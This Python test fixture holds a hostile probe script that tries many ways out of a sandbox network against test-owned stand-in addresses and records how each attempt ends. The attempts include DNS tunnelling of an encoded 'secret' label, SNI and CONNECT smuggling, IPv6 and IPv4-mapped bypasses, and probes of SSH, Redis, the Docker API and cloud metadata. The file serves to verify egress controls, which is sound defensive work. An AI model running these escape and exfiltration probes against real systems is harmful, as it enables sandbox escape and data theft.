"""The hostile program of tests/egress/test_hostile_egress.py: every way out it tries, and how each ended.

Formatted with ``ATTACKS.format(...)``-free placeholders: the test prepends a line defining CA,
PROXY, GATEWAY, DOCKER_GATEWAY, SERVICE_IP, OTHER_SANDBOX, and the addresses this test run owns
standing in for the Internet and a metadata service (OUTSIDE_V4, OUTSIDE_V4_B, OUTSIDE_V6, METADATA: see
tests/owned_targets.py). Prints one JSON object: case -> outcome.
"""

ATTACKS = r"""
import errno, json, socket, ssl, struct, urllib.request, urllib.error

out = {}
ctx = ssl.create_default_context(cadata=CA)


def err(e):
    code = getattr(e, "errno", None) or getattr(getattr(e, "reason", None), "errno", None)
    name = errno.errorcode.get(code, "") if isinstance(code, int) else ""
    return {"error": type(e).__name__, "errno": name, "text": str(e)[:300]}


def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=8, context=ctx) as answer:
            return {"status": answer.status, "body": answer.read().decode()[:200]}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "body": e.read().decode(errors="replace")[:300]}
    except Exception as e:
        return err(e)


def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        return {"open": True}
    except Exception as e:
        return err(e)
    finally:
        s.close()


def udp(host, port, payload=b"x", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(payload, (host, port))
        data = s.recv(512)
        return {"answered": len(data)}
    except Exception as e:
        return err(e)
    finally:
        s.close()


def dns_query(name):
    header = struct.pack("!HHHHHH", 0x5346, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + labels + struct.pack("!HH", 1, 1)


def connect_then_tls(target, server_name):
    host, port = PROXY
    try:
        s = socket.create_connection((host, port), timeout=8)
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        reply = s.recv(4096).decode(errors="replace")
        if not reply.startswith("HTTP/1.1 200"):
            return {"connect_reply": reply[:100]}
        tls = ctx.wrap_socket(s, server_hostname=server_name)
        tls.sendall(f"GET /hello HTTP/1.1\r\nHost: {server_name}\r\nConnection: close\r\n\r\n".encode())
        return {"tls_answer": tls.recv(4096).decode(errors="replace")[-80:]}
    except Exception as e:
        return err(e)


def connect_raw(target, payload):
    host, port = PROXY
    try:
        s = socket.create_connection((host, port), timeout=8)
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        reply = s.recv(4096).decode(errors="replace")
        if reply.startswith("HTTP/1.1 200"):
            s.sendall(payload)
            return {"connect_reply": reply[:40], "then": s.recv(4096).decode(errors="replace")[:100]}
        return {"connect_reply": reply[:100]}
    except Exception as e:
        return err(e)


out["allowed name"] = fetch("https://api.egress.test/hello")
out["name not in the allow-list"] = fetch("https://other.egress.test/hello")
out["IP literal through the proxy"] = fetch(f"https://{SERVICE_IP}/hello")
out["IP literal directly"] = tcp(SERVICE_IP, 443)
out["redirect to a disallowed name"] = fetch("https://api.egress.test/redirect?to=https://other.egress.test/hello")
out["plain HTTP to an allowed name on port 80"] = fetch("http://api.egress.test/hello")
out["CONNECT to port 22 of an allowed name"] = connect_raw("api.egress.test:22", b"SSH-2.0-x\r\n")
out["SNI differs from the CONNECT target"] = connect_then_tls("api.egress.test:443", "other.egress.test")
out["non-TLS bytes through an allowed CONNECT"] = connect_raw("api.egress.test:443", b"GET / HTTP/1.0\r\n\r\n")
try:
    out["DNS lookup"] = {"resolved": socket.getaddrinfo("lookup.egress.invalid", 443)[0][4][0]}
except Exception as e:
    out["DNS lookup"] = err(e)
out["DNS tunnel to Docker's resolver (127.0.0.11)"] = udp("127.0.0.11", 53, dns_query("c2VjcmV0.tunnel.invalid"))
out["DNS tunnel to an outside resolver (UDP 53)"] = udp(OUTSIDE_V4, 53, dns_query("c2VjcmV0.tunnel.invalid"))
out["DNS over TCP to an outside resolver (53)"] = tcp(OUTSIDE_V4, 53)
out["UDP to the gateway"] = udp(GATEWAY, 3128)
out["IPv6 to an outside address"] = tcp(OUTSIDE_V6, 443, socket.AF_INET6)
out["UDP over IPv6 to an outside address"] = udp(OUTSIDE_V6, 53, family=socket.AF_INET6)
out["IPv4-mapped IPv6 address"] = tcp("::ffff:" + OUTSIDE_V4_B, 443, socket.AF_INET6)
out["host gateway, SSH port"] = tcp(GATEWAY, 22)
out["host gateway, Redis port"] = tcp(GATEWAY, 6379)
out["Docker bridge gateway, Redis port"] = tcp(DOCKER_GATEWAY, 6379)
out["Docker API over TCP (2375)"] = tcp(DOCKER_GATEWAY, 2375)
out["cloud metadata (a link-local address)"] = tcp(METADATA, 80)
out["another sandbox"] = tcp(OTHER_SANDBOX, 8000)
print(json.dumps(out))
"""
